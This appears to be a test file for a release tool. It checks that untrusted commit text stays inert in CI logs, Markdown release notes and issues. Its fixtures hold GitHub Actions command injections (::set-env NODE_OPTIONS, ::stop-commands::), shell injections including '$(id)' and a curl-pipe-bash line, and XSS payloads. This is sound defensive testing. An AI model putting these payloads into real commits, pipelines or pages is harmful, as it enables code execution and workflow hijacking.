import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { REGISTERED, parseCommand, readLines } from '../../rehearsal/runner/grammar.ts';
import { createMasks } from '../../rehearsal/runner/masks.ts';
import { createListener } from '../../rehearsal/runner/transcript.ts';
import type { Transcript } from '../../rehearsal/runner/transcript.ts';
import { inertText } from '../../src/adapters/inert.ts';
import { LANGUAGES } from '../../src/contract.ts';
import type { Change, Commit } from '../../src/domain/change.ts';
import { reason } from '../../src/domain/refusal.ts';
import { tagForm, versionOf } from '../../src/domain/version.ts';
import { inert, table } from '../../src/report/markdown.ts';
import { releaseNotes } from '../../src/report/notes.ts';
import { oneLine } from '../../src/report/plain.ts';
import { statusText } from '../../src/report/spoken.ts';
import { stopIssue } from '../../src/report/stop.ts';
import { contentOf } from '../../src/rules/changes.ts';
import { HEADER_LIMIT, parseMessage } from '../../src/rules/conventional.ts';
import { nextVersion } from '../../src/rules/next-version.ts';
import { CODES, CONTEXT, anyText, reasonWith } from '../report/examples.ts';
import { aliveIn, aliveInDocument, readOf, tablesHold } from '../report/strict-markdown.ts';
import { manifestWith } from './manifest-with.ts';
import { shown } from './shown.ts';

const TRUSTED = ['https://github.com/acme/shop/'];
const SHA = 'a'.repeat(40);

const change = (text: string): Change => ({
  commit: SHA,
  type: 'fix',
  scope: text,
  subject: text,
  breaking: false,
  author: text,
  date: '2026-11-24T02:00:00.000Z'
});

const commit = (message: string, sha = SHA): Commit => ({ sha, parents: [], date: '', author: message, message });

interface Heard {
  readonly transcript: Transcript;
  /** Whether a later output of this version would still arrive. */
  readonly whole: boolean;
}

/** What the runner makes of a text that was printed, given in pieces of bytes. */
const heard = (text: string, cut = text.length): Heard => {
  const masks = createMasks();
  const listener = createListener(masks);
  const stream = listener.stream();
  stream.push(Buffer.from(text.slice(0, cut)));
  stream.push(Buffer.from(`${text.slice(cut)}\n`));
  stream.end();
  return { transcript: listener.transcript, whole: masks.apply('1.2.3') === '1.2.3' };
};

const COMMANDS = shown('text', [
  { row: 35, text: '::add-mask::1.2.3' },
  { row: 35, text: ' \t\u00A0\u3000::add-mask::1.2.3' },
  { row: 35, text: 'feat: a\r::add-mask::1.2.3' },
  { row: 35, text: 'feat: a\u0085\u2028\u2029\v\f::add-mask::1.2.3' },
  { row: 35, text: '\u001B[0m::add-mask::1.2.3' },
  { row: 36, text: 'fix ##[add-mask]1.2.3' },
  { row: 36, text: '####[[add-mask]1.2.3' },
  { row: 36, text: '##[ADD-MASK x=y]1.2.3' },
  { row: 39, text: '::set-env name=NODE_OPTIONS::--require=x' },
  { row: 39, text: '::save-state name=isPost::true' },
  { row: 39, text: '::set-output name=version::9.9.9' },
  { row: 39, text: '::stop-commands::forever' },
  { row: 39, text: '::add-path::/tmp' },
  { row: 39, text: '::add-matcher::/tmp/x.json' },
  { row: 39, text: '::debug::x\n::group::x\n::endgroup::\n::echo::on\n::error::x' }
]);

describe('text of others in the log', () => {
  test.each(COMMANDS)('row $row: $shown commands nothing', ({ text }) => {
    const { whole, transcript } = heard(inertText(text));
    expect([whole, transcript.forbidden, transcript.annotations]).toEqual([true, [], []]);
    expect(transcript.printed.join('\n')).toBe(inertText(text));
  });

  test('most of them would command something as they are', () => {
    const raw = COMMANDS.filter(({ text }) => readLines(text).some((line) => parseCommand(line) !== undefined));
    expect(raw.length).toBeGreaterThanOrEqual(COMMANDS.length - 3);
  });

  test('law: however it is cut into pieces, no text masks, sets, stops or says anything', () => {
    const piece = fc.oneof(
      fc.constantFrom('::', '##[', ']', ' ', '\r', '\n', '\u2028', '1.2.3', ' name=x'),
      fc.constantFrom(...REGISTERED),
      anyText
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), fc.nat({ max: 60 }), (pieces, cut) => {
        const { transcript, whole } = heard(inertText(pieces.join('').toWellFormed()), cut);
        expect([whole, transcript.forbidden, transcript.annotations]).toEqual([true, [], []]);
      }),
      { numRuns: 200 }
    );
  });
});

const LIVELY = shown('text', [
  { row: 1, text: 'zzz";echo${IFS}"x";#' },
  { row: 2, text: '$(id)' },
  { row: 3, text: '`id`' },
  { row: 4, text: '{curl,-sSfL,h}${IFS}|bash' },
  { row: 49, text: '@org/team @everyone fixes #1 o/r#2 GH-3 closes https://github.com/o/r/issues/4' },
  { row: 49, text: '\u200B@\u200Bana and @\u2060ana &#64;ana' },
  { row: 50, text: '<img src=x onerror=alert(1)>' },
  { row: 50, text: '<details><summary>' },
  { row: 50, text: '</td></tr></table></details>' },
  { row: 50, text: '<!-- the rest is gone' },
  { row: 50, text: '<script>alert(1)</script>' },
  { row: 51, text: '[click](javascript:alert(1))' },
  { row: 51, text: '![](http://tracker.example/x.png) www.tracker.example' },
  { row: 51, text: '[a]: https://evil.example\n[a]' },
  { row: 52, text: '| a | b |\n|---|---|' },
  { row: 52, text: '`a | b`' },
  { row: 52, text: '#'.repeat(400) },
  { row: 52, text: '[^1] and $x^2$ \\' }
]);

describe('text of others in Markdown', () => {
  test.each(LIVELY)('row $row: $shown is read, and nothing else', ({ text }) => {
    expect(aliveIn(inert(text))).toEqual([]);
    expect(readOf(inert(text))).toBe(oneLine(text));
  });

  test.each(LIVELY)('row $row: $shown in a table, in notes and in the issue that stops the line', ({ text }) => {
    expect(tablesHold(table(['a', 'b'], [[inert(text), inert(text)]]))).toBe(true);
    const notes = releaseNotes(manifestWith([change(text)]), 'en', CONTEXT);
    expect(aliveInDocument(notes, TRUSTED)).toEqual([]);
    const why = reason('verification-failed', { version: '1.2.3', environment: text, problem: text });
    const issue = stopIssue({ version: '1.2.3', environment: text, why, runUrl: CONTEXT.runUrl }, 'en', CONTEXT);
    expect(aliveInDocument(issue.body, TRUSTED)).toEqual([]);
    expect(issue.title).not.toMatch(/[\n\r]/);
  });

  test('law: whatever the changes say, the notes are inert', () => {
    const text = fc
      .array(fc.oneof(fc.constantFrom(...LIVELY.map((each) => each.text)), anyText), {
        maxLength: 3
      })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(text, { maxLength: 4 }), fc.constantFrom(...LANGUAGES), (texts, language) => {
        expect(aliveInDocument(releaseNotes(manifestWith(texts.map(change)), language, CONTEXT), TRUSTED)).toEqual([]);
      }),
      { numRuns: 40 }
    );
  });

  test('law: whatever stops the line, the issue is inert, and a status is one short line', () => {
    const text = fc.oneof(fc.constantFrom(...LIVELY.map((each) => each.text)), anyText);
    fc.assert(
      fc.property(fc.constantFrom(...CODES), text, (code, said) => {
        const why = reasonWith(code, () => said);
        const stop = stopIssue({ version: said, environment: said, why, runUrl: said }, 'pt-BR', CONTEXT);
        expect(aliveInDocument(stop.body, TRUSTED)).toEqual([]);
        expect(stop.title.length).toBeLessThanOrEqual(256);
        expect(statusText({ kind: 'ended', why }, 'en')).toMatch(/^[^\p{Cc}]{1,140}$/u);
      })
    );
  });
});

describe('sizes', () => {
  test.each([
    { row: 44, changes: 5000, length: 400 },
    { row: 44, changes: 1, length: 1_000_000 }
  ])('row $row: notes of $changes changes of $length characters are cut and linked', ({ changes, length }) => {
    const notes = releaseNotes(
      manifestWith(Array.from({ length: changes }, () => change('x'.repeat(length)))),
      'en',
      CONTEXT
    );
    expect(notes.length).toBeLessThanOrEqual(125_000);
    expect(notes.split('<details>').length).toBe(notes.split('</details>').length);
  });

  test('row 44: an issue has a short title and fits into its body', () => {
    const cases = [{ row: 44, text: '@'.repeat(1_000_000) }];
    for (const { text } of cases) {
      const why = reason('verification-failed', { version: text, environment: text, problem: text });
      const { title, body } = stopIssue({ version: text, environment: text, why, runUrl: text }, 'en', CONTEXT);
      expect(title.length).toBeLessThanOrEqual(256);
      expect(body.length).toBeLessThan(65_536);
    }
  });

  test.each(
    shown('message', [
      { row: 45, message: `feat: ${'('.repeat(1 << 20)}` },
      { row: 45, message: `feat: ${' '.repeat(1 << 20)}x` },
      { row: 45, message: `feat${'(a'.repeat(1 << 19)}` },
      { row: 45, message: `feat: a\n${'\n'.repeat(100_000)}` },
      { row: 45, message: `a ${'(#1'.repeat(1 << 18)}` }
    ])
  )('row $row: $shown is read in one pass', ({ message }) => {
    expect(parseMessage(message).subject.length).toBeLessThanOrEqual(HEADER_LIMIT);
  });
});

describe('messages of every kind', () => {
  const past = (messages: readonly string[]): string => {
    const commits = messages.map((message, index) => commit(message, String(index).padStart(40, '0')));
    const head = commits[0] ?? commit('');
    const base = { version: versionOf([1, 2, 3]), tag: 'v1.2.3', commit: SHA };
    const policy = { scheme: 'semver', form: tagForm('v{version}'), releaseOn: 'any' } as const;
    const next = nextVersion({ head, base, onHead: [], newer: [], commits }, policy, new Date(0));
    return next.kind === 'version' ? next.version : next.kind;
  };
  const reverting = (index: number): string => `Revert "x"\n\nThis reverts commit ${String(index).padStart(40, '0')}.`;

  test.each(
    shown('messages', [
      { row: 48, messages: [reverting(1), 'feat: a'], version: '1.2.4' },
      { row: 48, messages: [reverting(1), reverting(2), 'feat: a'], version: '1.3.0' },
      { row: 48, messages: ["Merge branch 'x'"], version: '1.2.4' },
      { row: 48, messages: [''], version: '1.2.4' },
      { row: 48, messages: ['\uFFFD\uFFFD\u0000'], version: '1.2.4' },
      { row: 48, messages: ['\r\nfeat: a\r\n\r\nbody\r\n'], version: '1.3.0' },
      { row: 48, messages: ['fix: a\r\n\r\nBREAKING CHANGE: b\r\n'], version: '2.0.0' },
      { row: 48, messages: [`${reverting(0)} itself`], version: '1.2.4' }
    ])
  )('row $row: $shown gives $version', ({ messages, version }) => {
    expect(past(messages)).toBe(version);
  });

  test('law: any commits give a version above the last, and each change is told once', () => {
    const message = fc.oneof(
      fc.constantFrom('feat: a', 'fix!: b', reverting(0), reverting(2), ...COMMANDS.map(({ text }) => text)),
      anyText
    );
    fc.assert(
      fc.property(fc.array(message, { minLength: 1, maxLength: 8 }), (messages) => {
        const commits = messages.map((text, index) => commit(text, String(index).padStart(40, '0')));
        const { changes } = contentOf(commits);
        expect(new Set(changes.map((each) => each.commit)).size).toBe(changes.length);
        expect(past(messages)).toMatch(/^(1\.2\.4|1\.3\.0|2\.0\.0)$/);
      })
    );
  });
});
